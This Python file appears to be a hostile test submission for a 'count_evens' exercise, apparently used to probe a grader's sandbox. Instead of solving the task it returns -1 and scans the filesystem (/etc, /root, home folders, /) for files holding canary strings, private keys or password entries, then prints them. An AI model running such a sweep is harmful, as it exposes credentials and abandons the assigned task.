"""F02: walks up from its own folder and through the whole machine for whatever holds a secret."""

# %% count_evens
import os, time


def read(path):
    try:
        text = open(path, errors="replace").read(10_000)
        if "canary" + "-" in text or "PRIVATE KEY" in text or "root:" in text:
            print(path, text[:300])
    except (OSError, ValueError):
        pass


end = time.time() + 1
for top in (
    COURSE,
    VICTIM,
    HOME,
    os.path.expanduser("~"),
    "..",
    "../..",
    "/etc",
    "/root",
    "/home",
    "/tmp",
    "/var",
    "/",
):
    for folder, folders, files in os.walk(top):
        for name in files:
            read(os.path.join(folder, name))
        if time.time() > end:
            break


def count_evens(numbers):
    return -1
